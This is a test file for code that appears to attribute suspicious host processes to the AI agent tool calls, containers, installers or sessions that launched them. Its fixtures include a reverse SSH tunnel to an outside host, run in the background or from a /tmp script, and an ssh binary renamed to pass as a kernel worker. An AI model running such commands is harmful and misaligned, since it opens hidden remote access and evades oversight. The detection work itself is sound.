"""Each matcher alone: what it takes for a sign, and what not."""

import json
from datetime import UTC, datetime
from typing import Any

import pytest

from apps.attribution.case import Call, Case, Kin, Neighbour
from apps.attribution.matchers import (
    ancestry,
    command,
    dependency,
    flow,
    membership,
    neighbours,
    overlap,
    own_text,
    sandbox,
    scheduler,
    session,
    traceparent,
)
from apps.telemetry.flows import Flow, FlowOwner

TRACE, SPAN, OTHER = "4bf92f3577b34da6a3ce929d0e0e4736", "00f067aa0ba902b7", "b7ad6b7169203331"
PARENT = f"00-{TRACE}-{SPAN}-01"
TUNNEL = ("ssh", "-N", "-R", "9001:127.0.0.1:8000", "eve@198.51.100.7")


def kin(pid: int = 10, argv: tuple[str, ...] = TUNNEL, **changed: Any) -> Kin:
    return Kin(pid=pid, start_ticks=pid, argv=argv, **changed)


def call(number: int = 1, text: str | None = None, start: float = 100.0, end: float | None = None) -> Call:
    span = SPAN if number == 1 else OTHER
    return Call(number, TRACE, span, "shell", text or "", text is not None, start, end, run_id=1)


def case(*line: Kin, calls: tuple[Call, ...] = (), at: float = 101.0, **changed: Any) -> Case:
    known = {
        "run_id": 1,
        "run_name": "rome",
        "run_marker": "rome-1",
        "run_cgroup": "/sentinel/rome",
    } | changed
    return Case(occurred_at=at, line=line, calls=calls, **known)


def test_own_trace_context_names_the_tool_call() -> None:
    found = traceparent.match(case(kin(traceparent=PARENT), calls=(call(1), call(2))))
    assert [(one.call.id, one.strength) for one in found if one.call] == [(1, 97)]


def test_span_within_the_tool_call_names_it_by_its_trace() -> None:
    inner = f"00-{TRACE}-{'1' * 16}-01"
    calls = (call(1, start=90.0), call(2, start=99.0))
    [found] = traceparent.match(case(kin(traceparent=inner), calls=calls))
    assert found.call is not None
    assert (found.call.id, found.strength < 97) == (2, True)


@pytest.mark.parametrize("text", ["", "00-x", PARENT + "-extra", f"00-{TRACE[:-1]}-{SPAN}-01", "\u0660" * 55])
def test_what_is_no_trace_context_names_nothing(text: str) -> None:
    assert traceparent.parse(text) is None
    assert traceparent.match(case(kin(traceparent=text), calls=(call(),))) == []


def test_nearest_ancestor_speaks() -> None:
    far = f"00-{TRACE}-{OTHER}-01"
    line = (kin(10), kin(9, ("bash",), traceparent=PARENT), kin(8, ("python",), traceparent=far))
    [found] = ancestry.match(case(*line, calls=(call(1), call(2))))
    assert found.call is not None
    assert found.call.id == 1
    assert "pid 9" in found.says


def test_own_context_is_not_said_twice() -> None:
    line = (kin(10, traceparent=PARENT), kin(9, traceparent=PARENT))
    assert ancestry.match(case(*line, calls=(call(),))) == []


def test_text_of_the_tool_call_itself() -> None:
    [found] = own_text.match(case(calls=(call(1, "ssh -R"), call(2, "ls")), own_call=1))
    assert found.call is not None
    assert found.call.id == 1
    assert own_text.match(case(calls=(call(1, "ssh -R"),))) == []


@pytest.mark.parametrize(
    "text",
    [
        " ".join(TUNNEL),
        '{"command": "nohup ssh -N -R \'9001:127.0.0.1:8000\' eve@198.51.100.7 &"}',
        '{"cmd": ["bash", "-lc", "cd /tmp; /usr/bin/ssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7"]}',
        "set -e\\nssh -N -R 9001:127.0.0.1:8000 eve@198.51.100.7\\necho ok",
    ],
)
def test_command_that_stands_in_the_text(text: str) -> None:
    [found] = command.match(case(kin(), calls=(call(1, text), call(2, "ls -la /tmp"))))
    assert found.call is not None
    assert found.call.id == 1
    assert found.strength in (command.WHOLE, command.STARTS)


@pytest.mark.parametrize(
    "text", ["", "ls", "ssh-keygen -R host", "grep -R ssh .", "git commit -m 'ssh tunnel'", "ssh eve@other"]
)
def test_text_that_only_looks_alike(text: str) -> None:
    assert command.match(case(kin(), calls=(call(1, text),))) == []


def test_single_word_is_no_agreement() -> None:
    assert command.match(case(kin(argv=("ls",)), calls=(call(1, "ls && ls -la"),))) == []


def test_shell_above_the_process_counts_a_little_less() -> None:
    shell = kin(9, ("bash", "-c", "python x.py --port 9"))
    [found] = command.match(
        case(kin(argv=("python3.11",)), shell, calls=(call(1, "cd /w; python x.py --port 9"),))
    )
    assert "parent" in found.says


def test_words_said_before_anybody_asked_for_them_speak_for_nobody() -> None:
    early, asked = kin(since=99.0), call(1, " ".join(TUNNEL), start=100.0)
    assert command.match(case(early, calls=(asked,), clock_error_ms=40.0)) == []
    # Within what the clocks may be off it can be either way round
    assert command.match(case(early, calls=(asked,), clock_error_ms=1_000.0))
    # One shell that serves all tool calls began long before; what it started did not
    line = (kin(argv=("python3.11",), since=100.2), kin(9, ("bash", "-c", "python x.py --port 9"), since=4.0))
    assert command.match(case(*line, calls=(call(1, "python x.py --port 9"),))) == []


def test_a_marker_of_another_run_speaks_against_words_and_time() -> None:
    calls = (call(1, " ".join(TUNNEL)),)
    foreign = case(kin(), kin(9, ("bash",), marker="tokyo-4"), calls=calls, run_id=None)
    assert command.match(foreign) == overlap.match(foreign) == []
    unmarked = case(kin(), kin(9, ("bash",)), calls=calls, run_id=None)
    assert command.match(unmarked)
    assert overlap.match(unmarked)


def test_huge_text_costs_no_more_than_its_limit() -> None:
    text = "a " * 2_000_000 + " ".join(TUNNEL)
    assert command.match(case(kin(), calls=(call(1, text),))) == []


def test_cgroup_beats_marker_and_names_no_call() -> None:
    [found] = membership.match(case(kin(cgroup="/sentinel/rome/tool", marker="rome-1")))
    assert (found.strength, found.call) == (60, None)
    [found] = membership.match(case(kin(cgroup="/else", marker="rome-1")))
    assert found.strength == 50


@pytest.mark.parametrize("cgroup", ["/sentinel/rome-2", "/sentinel", "", "/", "/x/sentinel/rome"])
def test_neighbouring_cgroup_is_not_the_run(cgroup: str) -> None:
    assert membership.match(case(kin(cgroup=cgroup))) == []


def test_run_without_a_cgroup_holds_nobody() -> None:
    assert membership.match(case(kin(cgroup="/anything"), run_cgroup="/")) == []


def test_only_open_call_counts_more_than_one_of_many() -> None:
    [one] = overlap.match(case(calls=(call(1),)))
    [many] = overlap.match(case(calls=(call(1, start=99.0), call(2, start=100.0))))
    assert one.strength == 45
    assert many.strength < one.strength
    assert many.call is not None
    assert many.call.id == 2


def test_clock_error_widens_the_window() -> None:
    late = call(1, start=101.3)
    assert overlap.match(case(calls=(late,), clock_error_ms=10.0)) == []
    assert overlap.match(case(calls=(late,), clock_error_ms=400.0))


def test_what_a_call_left_behind_may_act_later_for_a_while() -> None:
    [found] = overlap.match(case(calls=(call(1, start=10.0, end=20.0),)))
    assert found.strength == 15
    assert overlap.match(case(calls=(call(1, start=10.0, end=20.0),), at=2_000.0)) == []


def test_inbound_session_below_the_run_is_a_rival() -> None:
    line = (
        kin(10),
        kin(9, ("bash",)),
        kin(8, ("sshd: eve@pts/0",), peers=("203.0.113.9:5555", "8.8.8.8:41000")),
    )
    [found] = session.match(case(*line, run_id=None))
    assert (found.against, found.origin) == (True, "external")
    assert "8.8.8.8" in found.says


def test_session_from_the_same_network_is_an_operator() -> None:
    [found] = session.match(case(kin(10), kin(8, ("sshd",), peers=("10.0.0.9:5555",))))
    assert found.origin == "operator"


def test_session_through_which_the_run_was_launched_is_no_rival() -> None:
    line = (kin(10), kin(9, ("python", "train.py"), marker="rome-1"), kin(8, ("sshd",)))
    assert session.match(case(*line)) == []


@pytest.mark.parametrize("program", ["sshd-keygen", "ssh", "mysshd", "suspend", "sudoku"])
def test_program_with_a_similar_name_is_no_session(program: str) -> None:
    assert session.match(case(kin(10), kin(8, (program,)))) == []


def script(number: int, arguments: dict[str, str], *, start: float, episode: int = 7) -> Call:
    text = json.dumps(arguments)
    return Call(number, TRACE, OTHER, "bash", text, True, start, start + 1, run_id=1, episode_id=episode)


WRITES = {"command": f"cat > /tmp/t.sh <<'EOF'\n{' '.join(TUNNEL)}\nEOF"}
STARTS_IT = {"command": "bash /tmp/t.sh"}


def test_script_that_an_earlier_call_of_the_episode_wrote_speaks_for_the_one_that_starts_it() -> None:
    [found] = command.match(case(kin(), calls=(script(2, STARTS_IT, start=99), script(1, WRITES, start=90))))
    assert found.call is not None
    assert (found.call.id, found.strength) == (2, command.SCRIPT)
    assert "/tmp/t.sh" in found.says


def test_script_of_another_episode_speaks_for_the_one_that_wrote_it() -> None:
    calls = (script(2, STARTS_IT, start=99, episode=8), script(1, WRITES, start=90))
    [found] = command.match(case(kin(), calls=calls))
    assert found.call is not None
    assert found.call.id == 1


def test_of_the_call_that_wrote_the_code_and_the_one_that_starts_it_the_latter_did_it() -> None:
    code = {"command": "cat > fetch.py <<'EOF'\nimport socket\nEOF"}
    calls = (script(1, code, start=90), script(2, {"command": "python3 fetch.py"}, start=99))
    [found] = command.match(case(kin(argv=("python3", "fetch.py")), calls=calls))
    assert found.call is not None
    assert (found.call.id, found.strength) == (2, command.SCRIPT)


def test_renamed_program_is_the_file_that_a_tool_call_made() -> None:
    copied = script(1, {"command": "cp /usr/bin/ssh /tmp/.x/kworker"}, start=90)
    [found] = command.match(case(kin(argv=("[kworker/0:1]", "-N"), exe="/tmp/.x/kworker"), calls=(copied,)))
    assert found.strength == command.WROTE


def test_bare_name_of_a_file_is_no_sign() -> None:
    copied = script(1, {"command": "cp /etc/hosts data"}, start=90)
    assert command.match(case(kin(argv=("process", "data")), calls=(copied,))) == []


@pytest.mark.parametrize(
    "argv",
    [
        ("pip", "install", "left-pad"),
        ("/usr/bin/python3", "-m", "pip", "install", "."),
        ("/usr/bin/python3.11", "/usr/local/bin/pip3", "install", "x"),
        ("npm", "ci"),
        ("apt-get", "-y", "install", "jq"),
        ("/bin/sh", "/var/lib/dpkg/info/jq.postinst", "configure")[1:],
    ],
)
def test_package_installer_above_the_process(argv: tuple[str, ...]) -> None:
    [found] = dependency.match(case(kin(), kin(9, ("sh", "-c", "x")), kin(8, argv)))
    assert (found.origin, found.against, found.steps) == ("dependency", True, 2)


@pytest.mark.parametrize("argv", [("pip", "list"), ("python", "train.py", "pip"), ("npm", "--version"), ()])
def test_what_installs_nothing_is_no_installer(argv: tuple[str, ...]) -> None:
    assert dependency.match(case(kin(), kin(8, argv))) == []


def test_installer_itself_is_no_dependency() -> None:
    assert dependency.match(case(kin(10, ("pip", "install", "x")), kin(8, ("bash",)))) == []


def test_schedulers_of_the_host_unless_they_stand_above_the_run() -> None:
    [found] = scheduler.match(case(kin(), kin(8, ("/usr/sbin/cron", "-f"))))
    assert (found.origin, found.against) == ("operator", True)
    assert scheduler.match(case(kin(marker="rome-1"), kin(8, ("/usr/sbin/cron", "-f")))) == []
    assert scheduler.match(case(kin(argv=("vi", "cron")), kin(8, ("bash",)))) == []


def test_neighbours_in_the_same_namespace_name_the_call() -> None:
    near = (Neighbour(30, PARENT, "network namespace"), Neighbour(31, PARENT, "network namespace"))
    [found] = neighbours.match(case(kin(), calls=(call(1), call(2)), neighbours=near))
    assert found.call is not None
    assert (found.call.id, found.strength) == (1, neighbours.NETNS)


def test_neighbours_that_name_several_calls_say_little() -> None:
    near = (Neighbour(30, PARENT, "cgroup"), Neighbour(31, f"00-{TRACE}-{OTHER}-01", "cgroup"))
    [found] = neighbours.match(case(kin(), calls=(call(1), call(2)), neighbours=near))
    assert found.strength == neighbours.SEVERAL


def test_own_context_needs_no_neighbours() -> None:
    near = (Neighbour(30, f"00-{TRACE}-{OTHER}-01", "cgroup"),)
    assert neighbours.match(case(kin(traceparent=PARENT), calls=(call(1), call(2)), neighbours=near)) == []


def wire(*, exact: bool) -> dict[str, Any]:
    seen = Flow(1, "tcp", "10.0.0.5:41000", "198.51.100.7:443", datetime(2026, 1, 1, tzinfo=UTC))
    return {"flow": seen, "held": FlowOwner(5, 1, 10, 1, exact)}


def test_owner_of_the_connection_that_a_firewall_names() -> None:
    [exact], [far] = (flow.match(case(kin(), **wire(exact=both))) for both in (True, False))
    assert exact.strength > far.strength
    assert "address translation" in far.says
    assert flow.match(case(kin(), **(wire(exact=True) | {"held": None}))) == []


def test_clocks_that_may_be_far_off_make_nearness_in_time_weak() -> None:
    near = overlap.match(case(calls=(call(1),)))[0].strength
    far = overlap.match(case(calls=(call(1),), clock_error_ms=30_000.0))[0].strength
    assert far < near / 10


BOX = "4f1d2c" * 10
INSIDE = f"/system.slice/docker-{BOX}.scope"


def boxed(number: int, *, start: float, box: str = BOX) -> Call:
    return Call(number, TRACE, OTHER, "bash", "", False, start, start + 1, run_id=1, sandbox=box)


def test_container_that_one_tool_call_names() -> None:
    [found] = sandbox.match(
        case(kin(cgroup=INSIDE), calls=(boxed(1, start=99), boxed(2, start=99, box="x" * 60)))
    )
    assert found.call is not None
    assert (found.call.id, found.strength) == (1, sandbox.ONLY_ONE)


def test_of_several_in_one_container_the_latest_that_had_begun() -> None:
    calls = (boxed(1, start=90), boxed(2, start=100), boxed(3, start=200))
    [found] = sandbox.match(case(kin(cgroup=INSIDE), calls=calls))
    assert found.call is not None
    assert (found.call.id, found.strength) == (2, sandbox.LATEST)


@pytest.mark.parametrize("box", ["", "docker", "f" * 60])
def test_other_or_short_names_are_no_container(box: str) -> None:
    assert sandbox.match(case(kin(cgroup=INSIDE), calls=(boxed(1, start=99, box=box),))) == []
